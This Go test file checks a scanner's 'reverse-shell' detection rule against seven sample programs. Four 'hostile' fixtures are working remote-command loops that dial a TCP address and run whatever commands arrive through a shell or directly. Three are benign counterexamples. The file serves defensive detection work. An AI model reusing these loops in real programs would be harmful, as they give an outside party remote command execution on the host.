package audit_test

import (
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestGoRemoteCommand: a Go program that reads a command from a network
// connection and runs it (as the program, or as a shell's command string,
// the shell named literally or by a helper returning literals) is a
// remote command loop; a command run on a fixed program, or a connection
// whose text is only an argument of an ordinary tool, is not.
func TestGoRemoteCommand(t *testing.T) {
	crit, none := audit.Critical, audit.SeverityNone
	gofile := func(body string) map[string]string {
		return map[string]string{"cmd/agent/main.go": "package main\n\nimport (\n\t\"bufio\"\n\t\"context\"\n\t\"crypto/tls\"\n\t\"fmt\"\n\t\"net\"\n\t\"os\"\n\t\"os/exec\"\n\t\"runtime\"\n\t\"strings\"\n)\n\n" + body + "\n"}
	}
	shellHelper := "func shell() (string, string) {\n\tif runtime.GOOS == \"windows\" {\n\t\treturn \"cmd\", \"/C\"\n\t}\n\treturn \"/bin/sh\", \"-c\"\n}\n\n"
	checkRule(t, "reverse-shell", map[string]systemCase{
		"hostile/helper-shell":     {gofile(shellHelper + "func serve(conn net.Conn) {\n\tr := bufio.NewReader(conn)\n\tfor {\n\t\tmsg, err := r.ReadString('\\n')\n\t\tif err != nil {\n\t\t\treturn\n\t\t}\n\t\tmsg = strings.TrimSpace(msg)\n\t\tsh, fl := shell()\n\t\tout, _ := exec.Command(sh, fl, msg).CombinedOutput()\n\t\tfmt.Fprintf(conn, \"%q\\n\", out)\n\t}\n}\n\nfunc main() { c, _ := net.Dial(\"tcp\", os.Args[1]); serve(c) }"), crit},
		"hostile/scanner-literal":  {gofile("func main() {\n\tc, err := tls.Dial(\"tcp\", os.Args[1], nil)\n\tif err != nil {\n\t\treturn\n\t}\n\tsc := bufio.NewScanner(c)\n\tfor sc.Scan() {\n\t\t_ = exec.Command(\"bash\", \"-c\", sc.Text()).Run()\n\t}\n}"), crit},
		"hostile/program-from-net": {gofile("func main() {\n\tc, _ := net.Dial(\"tcp\", os.Args[1])\n\tr := bufio.NewReader(c)\n\tline, _ := r.ReadString('\\n')\n\tparts := strings.Fields(line)\n\t_ = exec.CommandContext(context.Background(), parts[0], parts[1:]...).Run()\n}"), crit},
		"hostile/cmd-c-var":        {gofile("func main() {\n\tvar c net.Conn\n\tc, _ = net.Dial(\"tcp\", os.Args[1])\n\tb := bufio.NewReader(c)\n\tfor {\n\t\tm, _ := b.ReadString('\\n')\n\t\tx := exec.Command(\"cmd.exe\", \"/C\", m)\n\t\tx.Run()\n\t}\n}"), crit},
		"benign/fixed-command":     {gofile("func main() {\n\tc, _ := net.Dial(\"tcp\", os.Args[1])\n\tr := bufio.NewReader(c)\n\tfor {\n\t\tmsg, _ := r.ReadString('\\n')\n\t\tif strings.TrimSpace(msg) == \"status\" {\n\t\t\tout, _ := exec.Command(\"systemctl\", \"status\", \"app\").Output()\n\t\t\tc.Write(out)\n\t\t}\n\t}\n}"), none},
		"benign/argument-only":     {gofile("func main() {\n\tc, _ := net.Dial(\"tcp\", os.Args[1])\n\tr := bufio.NewReader(c)\n\tbranch, _ := r.ReadString('\\n')\n\t_ = exec.Command(\"git\", \"checkout\", \"--\", strings.TrimSpace(branch)).Run()\n}"), none},
		"benign/local-repl":        {gofile(shellHelper + "func main() {\n\tc, _ := net.Dial(\"tcp\", os.Args[1])\n\tin := bufio.NewReader(os.Stdin)\n\tline, _ := in.ReadString('\\n')\n\tsh, fl := shell()\n\tout, _ := exec.Command(sh, fl, line).Output()\n\tc.Write(out)\n}"), none},
	})
}
